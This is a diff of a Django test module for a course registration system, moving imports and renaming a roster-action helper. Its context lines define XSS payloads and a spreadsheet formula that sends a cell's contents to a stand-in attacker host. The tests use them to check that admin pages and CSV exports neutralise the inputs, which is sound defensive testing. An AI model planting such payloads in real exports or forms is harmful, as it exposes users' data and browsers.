@@ -18,12 +18,12 @@ from catalog.models import Offering
 from certificates.models import Certificate, Evaluation
 from certificates.services.issuing import certificate_issue
 from registration.models import Enrolment, Inquiry, InquiryTopic
+from registration.roles import COORDINATOR
 from registration.services.inquiries import inquiry_recipient
-from tests.certificates.conftest import pdf_text
 from tests.factories import EnrolmentFactory, SessionFactory, login_staff
+from tests.pdfs import pdf_text
 from tests.registration.flows import paid_order, session_of, text
-
-from .conftest import LAST_NOVEMBER, make_user
+from tests.security.people import LAST_NOVEMBER, make_user
 
 MARKUP = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>')
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Claim your prize")'
@@ -89,7 +89,6 @@ def hostile(catalog, before_season, settings, tmp_path, django_capture_on_commit
 
 @pytest.fixture
 def coordinator_client(client, hostile):
-    from registration.roles import COORDINATOR
 
     login_staff(client, make_user(groups=(COORDINATOR,)))
     return client
@@ -183,7 +182,7 @@ def test_the_admin_shows_names_titles_and_comments_as_text(coordinator_client, h
     assert_shown_as_text(shown["evaluation summary"].content.decode(), HOSTILE, "summary")
 
 
-def _roster_action(client, enrolment: Enrolment, action: str):
+def _run_action(client, enrolment: Enrolment, action: str):
     return client.post(
         reverse("admin:registration_rosterentry_changelist")
         + f"?session__id__exact={enrolment.session_id}",
@@ -194,7 +193,7 @@ def _roster_action(client, enrolment: Enrolment, action: str):
 def test_the_roster_csv_keeps_the_formula_from_running(coordinator_client, hostile):
     enrolment = Enrolment.objects.get(order_line__order=hostile["order"])
 
-    response = _roster_action(coordinator_client, enrolment, "export_csv")
+    response = _run_action(coordinator_client, enrolment, "export_csv")
 
     assert response.status_code == 200
     header, row = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
@@ -206,7 +205,7 @@ def test_the_sign_in_sheet_prints_the_name_as_typed(coordinator_client, hostile)
     enrolment = Enrolment.objects.get(order_line__order=hostile["order"])
 
     with TestCase.captureOnCommitCallbacks(execute=True):  # the worker renders it, inline
-        sheet_page = _roster_action(coordinator_client, enrolment, "sign_in_sheet")
+        sheet_page = _run_action(coordinator_client, enrolment, "sign_in_sheet")
     page = coordinator_client.get(sheet_page["Location"])
     download = re.search(r'id="sign-in-sheet-download" href="([^"]+)"', page.content.decode())
     response = coordinator_client.get(download.group(1))
